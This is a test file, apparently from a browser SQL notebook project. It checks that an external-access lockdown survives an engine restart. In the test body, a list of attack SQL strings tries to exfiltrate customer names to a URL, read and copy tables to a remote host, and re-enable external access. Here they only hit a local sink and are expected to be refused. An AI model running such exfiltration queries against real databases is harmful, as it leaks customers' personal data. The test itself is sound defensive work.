/**
 * RELIABILITY.md case 3, "lockdown survives a worker restart": after the engine is killed as an
 * out-of-memory would kill it and restarted, the attacker's SQL is still refused and a listener
 * of ours on another port receives nothing; the settings read back locked.
 */
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath, foreignRequests, openSession, type Session } from '../helpers/browser';
import { serve } from '../helpers/serve.mjs';
import { runSql, textOf } from '../helpers/ui';

const browser = chromiumPath();
if (!browser && process.env.CI)
	throw new Error('CI=true but no Chromium: install Debian chromium.');
const fixtures = join(import.meta.dirname, '../fixtures');

describe.skipIf(!browser)('the lockdown after an engine restart', () => {
	let site: Awaited<ReturnType<typeof serve>>;
	let session: Session;
	let sink: Server;
	const hits: string[] = [];
	let sinkUrl = '';
	beforeAll(async () => {
		sink = createServer((req, res) => {
			hits.push(`${req.method ?? ''} ${req.url ?? ''}`);
			res.end('x');
		});
		await new Promise<void>((ok) => sink.listen(0, '127.0.0.1', () => ok()));
		const address = sink.address();
		sinkUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
		site = await serve({ dir: 'dist' });
		session = await openSession();
		await session.page.goto(`${site.url}?testHooks`);
		await session.page
			.getByRole('status')
			.filter({ hasText: /Ready ·/ })
			.waitFor({ timeout: 60_000 });
		await session.page.getByLabel('Load data file').setInputFiles(join(fixtures, 'orders.csv'));
		await session.page.getByRole('region', { name: 'Data: orders' }).waitFor({ timeout: 30_000 });
	});
	afterAll(async () => {
		await session?.close();
		await site?.close();
		sink?.close();
	});

	it('refuses the exfiltration SQL after a restart, and reads the settings back locked', async () => {
		const page = session.page;
		await page.evaluate(() =>
			(window as unknown as { __segbookCrashEngine(): void }).__segbookCrashEngine()
		);
		await page
			.getByRole('alert')
			.filter({ hasText: /The engine restarted/ })
			.first()
			.waitFor({ timeout: 30_000 });
		const cell = page.getByRole('region', { name: 'SQL cell 2' });
		const attacks = [
			`SET VARIABLE u = (SELECT '${sinkUrl}/leak?d=' || string_agg(customer_name, ',') FROM orders); SELECT * FROM read_csv(getvariable('u'))`,
			`SELECT * FROM '${sinkUrl}/direct.csv'`,
			`SET enable_external_access = true`,
			`COPY orders TO '${sinkUrl}/copy.csv'`
		];
		for (const sql of attacks) {
			await runSql(page, 'SQL cell 2', sql);
			const alert = cell.getByRole('alert');
			await alert.waitFor({ timeout: 60_000 });
			expect(await textOf(alert), sql).toMatch(
				/disabled|locked|not allowed|Permission|cannot write/i
			);
		}
		await runSql(
			page,
			'SQL cell 2',
			"SELECT current_setting('enable_external_access')::VARCHAR AS e, current_setting('lock_configuration')::VARCHAR AS l"
		);
		await expect
			.poll(async () => (await cell.getByRole('gridcell').allTextContents()).join(','), {
				timeout: 60_000
			})
			.toBe('false,true');
		await page.waitForTimeout(300);
		expect(hits).toEqual([]);
		expect(foreignRequests(session.requests, site.url)).toEqual([]);
	});
});
